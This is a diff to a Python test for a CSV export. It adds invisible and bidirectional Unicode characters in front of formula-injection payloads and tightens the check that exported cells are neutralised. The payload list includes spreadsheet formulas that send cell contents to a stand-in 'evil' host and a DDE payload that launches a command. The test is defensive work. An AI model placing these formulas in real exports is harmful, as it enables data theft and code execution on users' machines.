@@ -195,6 +195,9 @@ FORMULAS = [  # OWASP CSV injection: every leading character a spreadsheet reads
     "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil\")", "@SUM(1+1)*cmd|' /C calc'!A0",
     "\uff1d1+1", "\uff0bSUM(1)", "\uff0d1", "\uff20A1", "\r=1+1", "-=1", "+=1", "=1;=2",
     "\ufe661+1", "\ufe62SUM(1)", "\ufe631", "\ufe6bA1", "\u200b=1+1",  # small forms, a zero-width space: NFKC
+    # invisible and bidirectional characters before the formula (issue 20, item 9: the probe's nine)
+    "\u034f=1+1", "\u00ad=1+1", "\u180e=1+1", "\u2061=1+1", "\u2066=1+1", "\u202e=1+1", "\u202a=1+1",
+    "\u200f=1+1", "\u200e=1+1", "\u200e\u202e@SUM(1)",
 ]
 
 
@@ -211,8 +214,9 @@ def test_csv_export_neutralises_formulas_and_keeps_the_text(client):
     assert sorted(r["text"] for r in rows) == sorted("'" + t.strip() for t in FORMULAS)  # bodies are trimmed
     import unicodedata
 
-    seen = [unicodedata.normalize("NFKC", r["text"]).lstrip("\u200b") for r in rows]
-    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in seen)
+    seen = [unicodedata.normalize("NFKC", r["text"]) for r in rows]
+    visible = ["".join(c for c in t if unicodedata.category(c) not in ("Cf", "Mn", "Zs")) for t in seen]
+    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in visible)
     assert all(r["from"].startswith("'+44") for r in rows)  # masked numbers start with + too
 
 
